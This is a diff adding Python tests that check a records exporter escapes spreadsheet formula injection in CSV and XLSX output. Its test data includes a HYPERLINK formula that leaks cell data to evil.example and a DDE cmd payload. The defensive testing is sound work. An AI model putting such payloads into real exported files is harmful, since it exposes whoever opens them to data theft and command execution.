@@ -3,8 +3,12 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
+import zipfile
 from datetime import date
 from pathlib import Path
+
+import pytest
 
 from domain.office import LiaisonOffice
 from projections.catalog import all_models
@@ -15,7 +19,14 @@ from tests.scale.conftest import SUPERVISOR, TODAY
 from workers.province import demo
 from workers.province.bulk import BulkWriter
 from workers.province.demo_tree import PROVINCE, write_tree
-from workers.province.export import FIGURES, export_list, export_statistics, value
+from workers.province.export import (
+    FIGURES,
+    Cell,
+    export_list,
+    export_statistics,
+    value,
+    write_table,
+)
 from workers.province.importer import Source, import_records
 
 N = 1000  # the smallest size with an exemption from introduction (24 in 44,156)
@@ -80,3 +91,81 @@ async def test_dashboard_proportions_and_export(
         "vi",
     )
     assert listed == value(now, "exempt_from_activities")
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Xem hồ sơ")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+)
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+async def test_an_exported_list_never_holds_a_formula(
+    office: LiaisonOffice, pg_env: dict[str, str], pg_url: str, tmp_path: Path, suffix: str
+) -> None:
+    province = demo.generate(30, seed=7, until=date(2025, 12, 31))
+    records = [
+        dataclasses.replace(r, name=name)
+        for r, name in zip(province.records, FORMULAS, strict=False)
+    ]
+    write_tree(office, province.tree, BulkWriter(office))
+    report = import_records(office, records, Source("t", "f" * 64), SUPERVISOR, TODAY)
+    assert report.problems == []
+    projector = Projector(pg_env, all_models())
+    try:
+        projector.catch_up()
+    finally:
+        projector.close()
+    path = tmp_path / f"list{suffix}"
+    period = Period(PROVINCE, date(2025, 12, 31), year=2025)
+    assert await export_list(pg_url, period, "members_in_scope", path, "en") == len(FORMULAS)
+    if suffix == ".csv":
+        with path.open(encoding="utf-8-sig", newline="") as f:
+            names = [row[0] for row in list(csv.reader(f))[1:]]
+        assert sorted(names) == sorted(f"'{name}" for name in FORMULAS)
+        return
+    with zipfile.ZipFile(path) as book:
+        xml = book.read("xl/worksheets/sheet1.xml").decode()
+        styles = book.read("xl/styles.xml").decode()
+    assert "<f>" not in xml  # openpyxl would have written each of these names as a formula
+    import openpyxl  # type: ignore[import-untyped]
+
+    sheet = openpyxl.load_workbook(path).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert sorted(c.value for c in cells) == sorted(FORMULAS)  # the names themselves, as text
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert 'quotePrefix="1"' in styles
+
+
+def test_a_table_written_by_the_exporter_neutralises_every_formula_start(tmp_path: Path) -> None:
+    rows: list[list[Cell]] = [
+        ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", -5, 2.5, None, "a=b"]
+    ]
+    write_table(rows, tmp_path / "t.csv", "t")
+    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as f:
+        (written,) = list(csv.reader(f))
+    assert written == [
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@A1",
+        "'\tx",
+        "'\rx",
+        "plain",
+        "-5",
+        "2.5",
+        "",
+        "a=b",
+    ]
+    write_table(rows, tmp_path / "t.xlsx", "t")
+    import openpyxl
+
+    (row,) = openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows()
+    expected = [
+        v.replace("\r", "\n") if isinstance(v, str) else v for v in rows[0]
+    ]  # XML reads CR as LF
+    assert [c.value for c in row] == [*expected[:9], None, "a=b"]
+    assert [c.data_type for c in row[:6]] == ["s"] * 6
+    assert [c.data_type for c in row[7:9]] == ["n", "n"]  # numbers stay numbers
